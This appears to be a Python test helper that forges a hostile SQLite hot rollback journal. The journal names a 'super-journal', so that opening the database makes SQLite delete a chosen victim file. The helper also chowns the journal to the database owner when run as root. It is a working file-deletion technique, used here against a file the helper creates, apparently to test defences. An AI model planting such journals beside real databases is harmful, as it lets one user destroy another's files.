"""Hostile files that another user can put beside an SQLite database."""

# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import os
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR_BYTES = 512


def plant_journal(database: Path, victim: Path) -> Path:
    """Make a file, and a hot journal that makes SQLite delete it, as it deletes a super-journal that no journal names.

    https://www.sqlite.org/fileformat2.html#the_rollback_journal
    """
    victim.write_text("of worth")
    numbers = (0, 1, 0, _SECTOR_BYTES, 4096)  # pages in the journal, nonce, pages of the database, sector, page
    header = (_MAGIC + b"".join(number.to_bytes(4, "big") for number in numbers)).ljust(_SECTOR_BYTES, b"\0")
    name = bytes(victim)
    end = name + len(name).to_bytes(4, "big") + sum(name).to_bytes(4, "big") + _MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(header + bytes(4) + end)
    if os.geteuid() == 0:
        owner = database.stat()
        os.chown(journal, owner.st_uid, owner.st_gid)
    return victim
